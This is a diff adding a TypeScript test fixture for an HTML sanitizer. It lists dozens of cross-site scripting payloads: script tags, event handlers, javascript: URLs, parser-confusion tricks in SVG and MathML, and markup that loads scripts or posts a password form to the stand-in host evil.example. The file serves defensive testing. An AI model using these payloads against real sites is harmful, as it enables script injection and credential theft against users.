@@ -1,0 +1,86 @@
+/**
+ * What an editor's account in the wrong hands may write. `evil` stands only where it would do harm, `kept` only in text
+ * that readers shall still see.
+ */
+const samples: string[] = [
+	// Scripts
+	'<p>kept</p><script>evil()</script>',
+	'<script src="https://evil.example/x.js"></script><p>kept</p>',
+	'<scr<script>kept</script>ipt>',
+	'<SCRIPT TYPE="module">import "https://evil.example"</SCRIPT>kept',
+	'<script>/*</script><p>kept</p><script>*/evil()</script>',
+	'<!--><script>evil()</script>--><p>kept</p>',
+	'<noscript><p title="</noscript><img src=x onerror=evil()>"></p></noscript><p>kept</p>',
+	'<template><script>evil()</script></template><p>kept</p>',
+	'<script>evil()//<p>',
+	'<link rel="preload" as="script" href="https://evil.example/x.js"><p>kept</p>',
+	// Event handlers
+	'<img src="x" onerror="evil()"><p>kept</p>',
+	'<p onclick="evil()">kept</p>',
+	'<p onmouseover=evil()>kept</p>',
+	'<body onload="evil()"><p>kept</p></body>',
+	'<details open ontoggle="evil()"><summary>kept</summary></details>',
+	'<a href="/blog" onfocus="evil()" autofocus>kept</a>',
+	'<video src="x" onerror="evil()"></video><p>kept</p>',
+	'<p/onpointerenter="evil()"/title="x">kept</p>',
+	'<p onanimationstart="evil()" class="evil">kept</p>',
+	'<input onfocus="evil()" autofocus><p>kept</p>',
+	'<marquee onstart="evil()">kept</marquee>',
+	// Addresses
+	'<a href="javascript:evil()">kept</a>',
+	'<a href="JaVaScRiPt:evil()">kept</a>',
+	'<a href=" javascript:evil()">kept</a>',
+	'<a href="java\tscript:evil()">kept</a>',
+	'<a href="java&#10;script:evil()">kept</a>',
+	'<a href="&#106;avascript&colon;evil()">kept</a>',
+	'<a href="\u0001javascript:evil()">kept</a>',
+	'<a href="data:text/html,<script>evil()</script>">kept</a>',
+	'<a href="data:text/html;base64,ZXZpbA==" data-x="evil">kept</a>',
+	'<a href="vbscript:evil()">kept</a>',
+	'<a href="blob:https://evil.example/x">kept</a>',
+	'<a href="file:///evil">kept</a>',
+	'<a xlink:href="javascript:evil()">kept</a>',
+	'<a href="/blog" ping="https://evil.example">kept</a>',
+	'<blockquote cite="javascript:evil()">kept</blockquote>',
+	'<table background="javascript:evil()"><tbody><tr><td background="https://evil.example">kept</td></tr></tbody></table>',
+	// Frames, plug-ins, forms
+	'<iframe srcdoc="<script>evil()</script>"></iframe><p>kept</p>',
+	'<iframe src="javascript:evil()"></iframe><p>kept</p>',
+	'<object data="javascript:evil()"></object><p>kept</p>',
+	'<embed src="javascript:evil()"><p>kept</p>',
+	'<applet code="evil"></applet><p>kept</p>',
+	'<portal src="https://evil.example"></portal><p>kept</p>',
+	'<form action="https://evil.example"><p>kept</p><input name="password"><button>kept</button></form>',
+	'<button formaction="javascript:evil()">kept</button>',
+	'<isindex action="javascript:evil()"><p>kept</p>',
+	// The page around it
+	'<base href="https://evil.example/"><p>kept</p>',
+	'<meta http-equiv="refresh" content="0;url=https://evil.example"><p>kept</p>',
+	'<link rel="stylesheet" href="https://evil.example/x.css"><p>kept</p>',
+	'<style>@import "https://evil.example";</style><p>kept</p>',
+	'<p style="background:url(https://evil.example)">kept</p>',
+	'<p style="width:expression(evil())">kept</p>',
+	'<p id="evil" name="evil" class="evil">kept</p>',
+	'<dialog open class="evil"><p>kept</p></dialog>',
+	// Foreign content and parsers that disagree
+	'<svg onload="evil()"></svg><p>kept</p>',
+	'<svg><a xlink:href="javascript:evil()"><text>x</text></a></svg><p>kept</p>',
+	'<svg><animate onbegin="evil()" attributeName="x"/></svg><p>kept</p>',
+	'<svg><style><!--</style><img src=x onerror=evil()>--></svg><p>kept</p>',
+	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=evil()&gt;">',
+	'<math href="javascript:evil()">x</math><p>kept</p>',
+	'<math><annotation-xml encoding="text/html"><script>evil()</script></annotation-xml></math><p>kept</p>',
+	'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=evil() src>">',
+	'<svg></p><style><a id="</style><img src=1 onerror=evil()>">',
+	'<textarea><img title="</textarea><img src=x onerror=evil()>"></textarea><p>kept</p>',
+	'<title><img title="</title><img src=x onerror=evil()>"></title><p>kept</p>',
+	'<select><option><iframe></select><img src=x onerror=evil()></iframe></select>',
+	'<p>kept<x-evil onclick="evil()"></x-evil></p>',
+	'<img src="https://evil.example/pixel.gif" width="1"><p>kept</p>',
+];
+
+/** Each sample with a text of its own to look for; empty where nothing of it is to be read. */
+export const hostileMarkup = samples.map((sample, index) => ({
+	html: sample.replaceAll('kept', `kept-${index}.`),
+	kept: sample.includes('kept') ? `kept-${index}.` : '',
+}));
